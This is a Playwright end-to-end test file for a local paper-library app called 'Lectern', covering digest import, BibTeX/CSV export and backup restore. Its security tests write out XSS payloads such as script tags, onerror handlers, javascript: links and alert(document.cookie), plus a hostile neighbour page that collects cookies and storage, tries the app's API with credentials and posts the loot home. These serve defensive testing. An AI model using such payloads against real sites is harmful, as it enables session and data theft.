import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { TESO_PDF } from '../helpers/pdfs';
import { BIN, expect, SEED_DIGEST, SHOTS, startServe, test } from './serve';

// A digest whose text is an attack: script tags, an image whose error handler runs code, and
// javascript: links, in titles and abstracts. Everything must show as the text it is.
const HOSTILE = `Daily Papers

Jan 8

<script>window.__pwned = 'title script'</script> Attention Is All You Pwn

<img src=x onerror="window.__pwned='abstract img'"> An abstract with [a markdown link](javascript:window.__pwned='md') and a bare javascript:window.__pwned='bare' and <a href="javascript:window.__pwned='anchor'">an anchor</a> and https://example.org/ok"><script>window.__pwned='url'</script>

  • 3 authors
·
Jul 17, 2025 12

<img src=x onerror=alert(document.cookie)><svg onload=alert(1)>

javascript:alert(document.domain)

  • 1 author
·
Jul 18, 2025
`;

test('text from a hostile digest is shown as text everywhere, and nothing in it runs', async ({ page, served }) => {
  fs.mkdirSync(SHOTS, { recursive: true });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  // Any attempt the CSP blocks is recorded: an attack stopped by the policy would show up here.
  await page.addInitScript(`window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));`);
  await page.goto(served.url);
  await page.getByRole('button', { name: 'Import…' }).first().click();
  await page.getByLabel('Digest text').fill(HOSTILE);
  await page.getByRole('button', { name: 'Preview' }).click();
  const preview = page.getByRole('list', { name: 'Papers found' });
  await expect(preview).toContainText("<script>window.__pwned = 'title script'</script> Attention Is All You Pwn");
  await expect(preview).toContainText('<img src=x onerror=alert(document.cookie)><svg onload=alert(1)>');
  await page.screenshot({ path: path.join(SHOTS, '10-hostile-preview.png') });
  await page.getByRole('button', { name: 'Import 2 papers' }).click();

  const grid = page.getByRole('grid', { name: 'Library' });
  await expect(grid.locator('.cell-title')).toHaveText([
    "<script>window.__pwned = 'title script'</script> Attention Is All You Pwn",
    '<img src=x onerror=alert(document.cookie)><svg onload=alert(1)>',
  ]);
  const pane = page.getByRole('complementary', { name: 'Paper details' });
  for (const row of await grid.locator('[role=row][aria-rowindex]:not([aria-rowindex="1"])').all()) {
    await row.click();
    await expect(pane.getByRole('heading', { level: 2 })).toBeVisible();
  }
  await grid.getByRole('row', { name: /Attention Is All You Pwn/ }).click();
  await expect(pane.locator('.pane-abstract')).toContainText(`<img src=x onerror="window.__pwned='abstract img'"> An abstract with [a markdown link](javascript:window.__pwned='md')`);
  await expect(pane.locator('.pane-abstract')).toContainText(`<a href="javascript:window.__pwned='anchor'">an anchor</a>`);
  // The only link is the http(s) one found in the text; no javascript: link exists anywhere.
  await expect(pane.getByRole('link')).toHaveText(['https://example.org/ok']);
  expect(await page.locator('a[href^="javascript:" i], [href^="javascript:" i], [src^="javascript:" i]').count()).toBe(0);
  await page.screenshot({ path: path.join(SHOTS, '11-hostile-pane.png') });

  // No element from the digest was created, and no handler ran or even tried to.
  expect(await page.locator('#root img, #root svg, #root iframe, #root object, #root embed').count()).toBe(0);
  expect(await page.locator('script').count()).toBe(1); // the app's own module
  expect(await page.evaluate('window.__pwned')).toBeUndefined();
  expect(await page.evaluate('window.__violations')).toEqual([]);
  expect(dialogs).toEqual([]);
});

test('export the current view from the toolbar: the file downloads, holding exactly that view', async ({ page, served }) => {
  await page.goto(served.url);
  await page.getByRole('button', { name: 'Import…' }).first().click();
  await page.getByLabel('Digest file').setInputFiles(SEED_DIGEST);
  await page.getByRole('button', { name: 'Import 29 papers' }).click();
  await expect(page.locator('.statusbar .count')).toHaveText('29 papers');
  await page.getByRole('searchbox', { name: 'Search' }).fill('language');
  await expect(page.locator('.statusbar .count')).not.toHaveText('29 papers');
  await expect(page.locator('.statusbar .count')).toHaveText(/^\d+ papers$/);
  const viewCount = Number((await page.locator('.statusbar .count').textContent())!.split(' ')[0]);
  expect(viewCount).toBeGreaterThan(1);
  expect(viewCount).toBeLessThan(29);

  await page.getByRole('button', { name: 'Export…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export papers' });
  await expect(dialog.getByRole('radio', { name: /This view: matching “language”/ })).toBeChecked();
  await expect(dialog.getByRole('radio', { name: 'BibTeX' })).toBeChecked();
  await page.screenshot({ path: path.join(SHOTS, '12-export-dialog.png') });
  const [bib] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: `Export ${viewCount} papers` }).click()]);
  expect(bib.suggestedFilename()).toMatch(/^lectern-language-\d{4}-\d{2}-\d{2}\.bib$/);
  const text = fs.readFileSync((await bib.path())!, 'utf8');
  expect(text.match(/^@misc\{/gm)).toHaveLength(viewCount);
  await expect(page.locator('.statusbar')).toContainText(`Exported ${viewCount} papers to ${bib.suggestedFilename()}.`);

  // The whole library, as a spreadsheet.
  await page.getByRole('button', { name: 'Export…' }).click();
  await dialog.getByRole('radio', { name: /CSV/ }).check();
  await dialog.getByRole('radio', { name: /The whole library/ }).check();
  const [csv] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: 'Export 29 papers' }).click()]);
  expect(csv.suggestedFilename()).toMatch(/^lectern-library-.*\.csv$/);
  const rows = fs.readFileSync((await csv.path())!, 'utf8').trimEnd().split('\r\n');
  expect(rows[0]).toMatch(/^\uFEFFid,cite_key,title,/); // the byte-order mark Excel needs to read UTF-8
  expect(rows).toHaveLength(30);
});

test('a damaged library is restored from its backup at start, and the window says so until dismissed', async ({ page }) => {
  const library = fs.mkdtempSync(path.join(os.tmpdir(), 'lectern-e2e-'));
  const run = (...args: string[]) => spawnSync(process.execPath, [BIN, '--library', library, ...args], { encoding: 'utf8' });
  expect(run('import', SEED_DIGEST).status).toBe(0);
  expect(run('backup').status).toBe(0);
  expect(run('mark', '1', 'read').status).toBe(0);
  // The damage a failing disk or a bad copy leaves: the file no longer starts like a database.
  const file = path.join(library, 'lectern.sqlite');
  const fd = fs.openSync(file, 'r+');
  fs.writeSync(fd, Buffer.alloc(100, 0x42), 0, 100, 0);
  fs.closeSync(fd);

  const { served, stop, stderr } = await startServe({ library });
  try {
    await page.goto(served.url);
    const notice = page.getByRole('alert').filter({ hasText: 'Your library was damaged and has been restored from a backup' });
    await expect(notice).toBeVisible();
    await expect(notice).toContainText('restored the newest good backup');
    await expect(notice).toContainText(path.join(library, 'damaged'));
    await expect(page.locator('.statusbar .count')).toHaveText('29 papers');
    await page.screenshot({ path: path.join(SHOTS, '13-restored-banner.png') });
    expect(stderr()).toContain('lectern: Your library was damaged and has been restored from a backup.');
    await notice.getByRole('button', { name: /^Dismiss/ }).click();
    await expect(notice).toHaveCount(0);
    await page.reload();
    await expect(page.locator('.statusbar .count')).toHaveText('29 papers');
    await expect(page.getByRole('alert')).toHaveCount(0);
    expect(fs.readdirSync(path.join(library, 'damaged')).some((f) => f.endsWith('.sqlite'))).toBe(true);
  } finally {
    await stop();
  }
});

/** What a neighbouring web server on 127.0.0.1 (a dev server, Jupyter, another user's listener) receives. */
interface Received {
  method: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

// The neighbour's page does what a hostile local page can: read its cookies and storage, and
// try Lectern's API and PDFs with the browser's credentials, then send everything home.
const NEIGHBOUR_PAGE = (lectern: number) => `<!doctype html><title>neighbour</title><script>
(async () => {
  const loot = { cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) };
  for (const path of ['/api/libraryInfo', '/pdf/1']) {
    try { await fetch('http://127.0.0.1:${lectern}' + path, { method: path.startsWith('/api') ? 'POST' : 'GET', mode: 'no-cors', credentials: 'include', body: path.startsWith('/api') ? '{}' : undefined }); } catch {}
  }
  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
  document.title = 'done';
})();
</script>`;

test('another web server on 127.0.0.1 never receives anything that opens the API (cookies are not scoped by port)', async ({ page, context, request, served }) => {
  const run = (...args: string[]) => spawnSync(process.execPath, [BIN, '--library', served.library, ...args], { encoding: 'utf8' });
  expect(run('import', SEED_DIGEST).status).toBe(0);

  const received: Received[] = [];
  const neighbour = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      received.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(NEIGHBOUR_PAGE(served.port));
    });
  });
  await new Promise<void>((resolve) => neighbour.listen(0, '127.0.0.1', resolve));
  const other = `http://127.0.0.1:${(neighbour.address() as AddressInfo).port}`;
  try {
    // Use Lectern as a user does: attach a PDF (uploaded from the side pane), then read it.
    await page.goto(served.url);
    await page.getByRole('grid', { name: 'Library' }).getByRole('row').nth(1).click();
    const pane = page.getByRole('complementary', { name: 'Paper details' });
    await pane.getByLabel('PDF file to attach').setInputFiles(TESO_PDF);
    await expect(page.locator('.statusbar')).toContainText(`Attached ${path.basename(TESO_PDF)} (`);
    await page.screenshot({ path: path.join(SHOTS, '14-attached-by-upload.png') });
    await pane.getByRole('button', { name: 'Read PDF' }).click();
    await expect(page.locator('.page[data-page-number="1"] canvas')).toBeVisible({ timeout: 20_000 });
    expect(fs.readFileSync(path.join(served.library, 'pdfs', 'paper-1.pdf')).equals(fs.readFileSync(TESO_PDF))).toBe(true);
    // Then the neighbour, in the same tab and in a new one.
    await page.goto(`${other}/same-tab`);
    await expect(page).toHaveTitle('done');
    const second = await context.newPage();
    await second.goto(`${other}/new-tab`);
    await expect(second).toHaveTitle('done');

    expect(received.map((r) => r.url).filter((u) => u !== '/favicon.ico')).toEqual(['/same-tab', '/loot', '/new-tab', '/loot']);
    for (const r of received) expect(JSON.stringify(r), r.url).not.toContain(served.token);
    expect((await context.cookies()).filter((c) => c.value.includes(served.token))).toEqual([]);
    // Whatever it did receive, replayed to Lectern as the neighbour's owner could, opens nothing.
    for (const r of received) {
      const headers = Object.fromEntries(Object.entries(r.headers).filter(([k]) => !['host', 'content-length', 'connection'].includes(k)).map(([k, v]) => [k, String(v)]));
      const call = await request.post(`${served.origin}/api/libraryInfo`, { headers: { ...headers, 'Content-Type': 'application/json' }, data: {} });
      expect(call.status(), r.url).toBe(403);
      expect((await request.get(`${served.origin}/pdf/1`, { headers })).status()).toBe(403);
    }
  } finally {
    await new Promise((resolve) => neighbour.close(resolve));
  }
});
